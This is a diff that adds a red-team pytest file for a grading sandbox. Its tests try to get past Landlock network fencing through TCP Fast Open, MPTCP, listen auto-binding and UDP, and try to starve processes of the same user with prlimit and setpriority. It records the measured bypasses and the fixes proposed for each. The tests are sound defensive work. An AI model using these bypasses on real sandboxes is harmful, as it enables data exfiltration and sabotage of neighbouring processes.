@@ -1,0 +1,306 @@
+"""Red team, round 12: the designs of the last hour for issue 28: the fenced kernel's network
+and signal scopes (`kernel_start.fence`, `landlock.restrict`), the reader's new rights
+(`reader_rights`) and the /dev/shm guard in front of a fenced kernel (`shm_guard`). Tricks not
+in rounds 1 to 11. Marked `xfail(strict=True)` while the hole is open (the reason says what the
+attack got, measured; "Fix:" what would close it by design); plain tests are attacks the design
+holds against, kept as guards.
+
+Each attack runs in a forked child that takes the rights a fenced kernel or a reader has (the
+fence as root, then the slot's user, as `sandbox.command` orders them; `give_up_rights` as a
+reader does), so the file takes a few seconds. Nothing here writes to the machine's /dev/shm:
+the guard's attacks run in a private mount namespace with a small tmpfs of their own.
+"""
+
+from __future__ import annotations
+
+import os
+import resource
+import select
+import signal
+import socket
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from lib.grading import kernel_start, reader_rights, sandbox
+from tests.red_team_support import in_child
+
+pytestmark = [
+    pytest.mark.machine,  # runs code as sandbox users: the main run only (pyproject)
+    pytest.mark.skipif(os.geteuid() != 0, reason="needs root (sandbox users)"),
+    pytest.mark.skipif(not sandbox.fence_works(), reason="needs Landlock (the kernel's fence)"),
+]
+UID = sandbox.FIRST_UID + 931  # far from the users a grader beside us claims, and rounds 1-11's
+NEIGHBOUR = sandbox.FIRST_UID + 932  # another slot's user, graded at the same time
+NET = pytest.mark.skipif(sandbox.fence_abi() < 4, reason="needs Landlock's TCP rights (ABI 4)")
+MPTCP = 262  # IPPROTO_MPTCP: a TCP socket of its own protocol number
+
+
+def _become(uid: int) -> None:
+    os.setgroups([])
+    os.setresgid(uid, uid, uid)
+    os.setresuid(uid, uid, uid)
+
+
+def _as_kernel(uid: int, attack: Callable[[], object]) -> object:
+    """What `attack` returns (or the error it raised, as text) in a forked process fenced as a
+    kernel without a box is (`kernel_start.fence` as root, then the slot's user)."""
+
+    def fenced() -> object:
+        kernel_start.fence([])  # no folder of its own: it writes nowhere
+        _become(uid)
+        return attack()
+
+    return in_child(fenced)
+
+
+@pytest.fixture
+def listener():
+    """A TCP server on the loopback, played by anything of the machine's a kernel must not reach
+    (a database, a cloud's metadata service, the grader's own ports)."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(5)
+    yield server
+    server.close()
+
+
+def _received(server: socket.socket) -> bytes:
+    """What the first client sent `server` (nothing if none came within its 5 s)."""
+    try:
+        connection, _ = server.accept()
+    except TimeoutError:
+        return b""
+    with connection:
+        connection.settimeout(5)
+        return connection.recv(100)
+
+
+# --- the fence's TCP: what Landlock hooks is bind and connect, not every way to a connection ---
+
+
+@NET
+def test_a_fenced_kernel_cannot_connect_over_tcp(listener):
+    port = listener.getsockname()[1]
+    found = _as_kernel(UID, lambda: socket.create_connection(("127.0.0.1", port), 2) and "in")
+    assert "Permission denied" in str(found)
+
+
+@NET
+@pytest.mark.skipif(
+    not int(Path("/proc/sys/net/ipv4/tcp_fastopen").read_text()) & 1,
+    reason="the machine's TCP Fast Open is off for clients",
+)
+@pytest.mark.xfail(
+    strict=True,
+    reason="TCP Fast Open passes the fence: sendto(MSG_FASTOPEN) on an unconnected socket "
+    "connects without connect(2), so Landlock's CONNECT_TCP never sees it; measured: the "
+    "loopback server accepted the fenced kernel's connection and read its 7 bytes. "
+    "Fix: refuse MSG_FASTOPEN (sendto/sendmsg by flag in the kernel's seccomp filter) or "
+    "refuse AF_INET/AF_INET6 sockets to a fenced kernel (socket(2) by argument), or run it "
+    "in a network namespace",
+)
+def test_a_fenced_kernel_cannot_connect_over_tcp_by_fast_open(listener):
+    port = listener.getsockname()[1]
+
+    def attack() -> object:
+        with socket.socket() as client:
+            client.sendto(b"exfil:1", socket.MSG_FASTOPEN, ("127.0.0.1", port))
+            time.sleep(0.2)
+        return "sent"
+
+    _as_kernel(UID, attack)
+    assert _received(listener) != b"exfil:1"
+
+
+def _mptcp_runs() -> bool:
+    try:
+        socket.socket(socket.AF_INET, socket.SOCK_STREAM, MPTCP).close()
+        return True
+    except OSError:
+        return False
+
+
+@NET
+@pytest.mark.skipif(not _mptcp_runs(), reason="the machine has no MPTCP")
+@pytest.mark.xfail(
+    strict=True,
+    reason="an MPTCP socket (protocol 262) passes the fence: its connect reached the loopback "
+    "TCP server, which accepted it (MPTCP falls back to plain TCP) and read its bytes: the "
+    "fence refuses TCP only to sockets of protocol TCP. "
+    "Fix: refuse socket(2) with IPPROTO_MPTCP (by argument) in the kernel's seccomp "
+    "filter, or AF_INET/AF_INET6 whole, or a network namespace",
+)
+def test_a_fenced_kernel_cannot_connect_over_mptcp(listener):
+    port = listener.getsockname()[1]
+
+    def attack() -> object:
+        with socket.socket(socket.AF_INET, socket.SOCK_STREAM, MPTCP) as client:
+            client.connect(("127.0.0.1", port))
+            client.sendall(b"exfil:2")
+        return "sent"
+
+    _as_kernel(UID, attack)
+    assert _received(listener) != b"exfil:2"
+
+
+@NET
+@pytest.mark.xfail(
+    strict=True,
+    reason="listen(2) on an unbound TCP socket binds it by itself (to 0.0.0.0 and a port the "
+    "machine picks): the fenced kernel served TCP on every interface of the machine, and a "
+    "client of the machine connected and read its bytes. Landlock's BIND_TCP is not asked "
+    "for that bind. Fix: refuse listen(2) to a fenced kernel (seccomp: it needs none, its "
+    "kernel talks over ipc files), or AF_INET/AF_INET6 sockets whole, or a network namespace",
+)
+def test_a_fenced_kernel_cannot_serve_tcp():
+    said, told = os.pipe()
+    server = os.fork()
+    if server == 0:  # the kernel: a server on whatever port listen(2) gives it
+        try:
+            kernel_start.fence([])
+            _become(UID)
+            with socket.socket() as listening:
+                listening.listen(1)
+                os.write(told, str(listening.getsockname()[1]).encode())
+                listening.settimeout(5)
+                connection, _ = listening.accept()
+                connection.sendall(b"served")
+                connection.close()
+        except OSError as error:
+            os.write(told, f"refused: {error}".encode())
+        finally:
+            os._exit(0)
+    os.close(told)
+    try:
+        answer = os.read(said, 100).decode()
+        got = b""
+        if answer.isdigit():
+            with socket.create_connection(("127.0.0.1", int(answer)), 5) as client:
+                got = client.recv(100)
+    finally:
+        os.close(said)
+        os.waitpid(server, 0)
+    assert got != b"served", f"the fenced kernel served TCP on port {answer}"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="UDP is open to a fenced kernel (documented): two slots' kernels, fenced as two "
+    "users, exchanged a datagram on the loopback in one round trip, so a graded student's "
+    "kernel hands its answers to a classmate graded beside it, and any kernel reaches the "
+    "machine's and the internet's UDP services (DNS: exfiltration). Fix: refuse AF_INET and "
+    "AF_INET6 sockets to a fenced kernel by argument in its seccomp filter (a kernel talks "
+    "to the grader over ipc files), or a network namespace where one can be had",
+)
+def test_two_slots_fenced_kernels_cannot_talk_over_udp():
+    said, told = os.pipe()
+    receiver = os.fork()
+    if receiver == 0:  # the neighbour slot's kernel, waiting for a message
+        try:
+            kernel_start.fence([])
+            _become(NEIGHBOUR)
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as inbox:
+                inbox.bind(("127.0.0.1", 0))
+                os.write(told, str(inbox.getsockname()[1]).encode().ljust(8))
+                inbox.settimeout(5)
+                os.write(told, inbox.recv(100))
+        except OSError as error:
+            os.write(told, f"refused: {error}".encode().ljust(8))
+        finally:
+            os._exit(0)
+    os.close(told)
+    try:
+        port = os.read(said, 8).decode().strip()
+
+        def send() -> object:
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as outbox:
+                return outbox.sendto(b"answers: 42", ("127.0.0.1", int(port)))
+
+        sent = _as_kernel(UID, send) if port.isdigit() else port
+        ready = select.select([said], [], [], 6)[0]
+        got = os.read(said, 100) if ready else b""
+    finally:
+        os.close(said)
+        os.waitpid(receiver, 0)
+    assert got != b"answers: 42", f"sent {sent} bytes"
+
+
+# --- the reader: what its user may still do to its own user's other processes ---------------
+
+
+@pytest.fixture
+def victim():
+    """A process of the reader's own user that is not the reader: the grader itself when the
+    instructor grades without root (the reader then stays the instructor), or a classmate's
+    reader as `LONE_UID`. Its pid is known without /proc: the reader's parent's is getppid()."""
+    pid = os.fork()
+    if pid == 0:
+        try:
+            _become(UID)
+            time.sleep(30)
+        finally:
+            os._exit(0)
+    time.sleep(0.1)
+    yield pid
+    os.kill(pid, signal.SIGKILL)
+    os.waitpid(pid, 0)
+
+
+def _limit(pid: int, name: str) -> str:
+    """A process's soft limit `name` as /proc/PID/limits says it (root's prlimit may be refused
+    where the grader's root lacks CAP_SYS_RESOURCE, as here)."""
+    for line in Path(f"/proc/{pid}/limits").read_text().splitlines():
+        if line.startswith(name):
+            return line[26:].split()[0]
+    raise LookupError(name)
+
+
+def test_a_reader_cannot_signal_another_process_of_its_user(victim):
+    found = in_child(lambda: (reader_rights.give_up_rights(UID), os.kill(victim, 0))[1])
+    assert "Operation not permitted" in str(found)
+    assert os.waitpid(victim, os.WNOHANG) == (0, 0)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a reader taken over sets the resource limits of any process of its user with "
+    "prlimit64, which neither its seccomp blocklist nor Landlock's scopes cover: measured, "
+    "the victim's file size limit went to 0 and its CPU limit to 1 s. A grader without root "
+    "(the reader is the instructor) then dies of SIGXFSZ at its next write of a grade, or "
+    "of SIGXCPU: the batch lost; with root, a classmate's reader as LONE_UID. Fix: add "
+    "prlimit64 (302) to REFUSED, or refuse it unless its pid is 0 (by argument)",
+)
+def test_a_reader_cannot_set_the_limits_of_another_process_of_its_user(victim):
+    def attack() -> object:
+        reader_rights.give_up_rights(UID)
+        resource.prlimit(victim, resource.RLIMIT_FSIZE, (0, 0))
+        resource.prlimit(victim, resource.RLIMIT_CPU, (1, 1))
+        return "set"
+
+    found = in_child(attack)
+    assert (_limit(victim, "Max file size"), _limit(victim, "Max cpu time")) == (
+        "unlimited",
+        "unlimited",
+    ), found
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a reader taken over renices every process of its user (setpriority(PRIO_USER)) "
+    "and pins them to one CPU (sched_setaffinity by pid): measured, the victim went to nice "
+    "19 and CPU {0}: the grader without root (or a classmate's reader) slowed past its "
+    "deadlines. Fix: add setpriority, sched_setaffinity, sched_setscheduler and "
+    "sched_setattr (141, 203, 144, 314) and ioprio_set (251) to REFUSED",
+)
+def test_a_reader_cannot_slow_another_process_of_its_user(victim):
+    def attack() -> object:
+        reader_rights.give_up_rights(UID)
+        os.setpriority(os.PRIO_USER, UID, 19)
+        os.sched_setaffinity(victim, {0})
+        return "set"
+
+    before = os.getpriority(os.PRIO_PROCESS, victim)  # pytest's own (under `nice`, not 0)
+    found = in_child(attack)
+    assert os.getpriority(os.PRIO_PROCESS, victim) == before, found
